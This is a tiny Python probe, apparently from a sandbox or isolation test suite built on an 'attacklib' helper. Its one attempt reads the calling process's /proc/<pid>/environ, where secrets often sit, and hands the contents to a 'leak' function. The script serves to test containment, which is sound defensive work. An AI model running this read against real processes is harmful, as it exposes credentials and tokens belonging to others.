"""secrets: read the caller's /proc/<pid>/environ."""

from attacklib import *

attempt("caller environ", lambda: leak(open("/proc/%d/environ" % CALLER, "rb").read()))
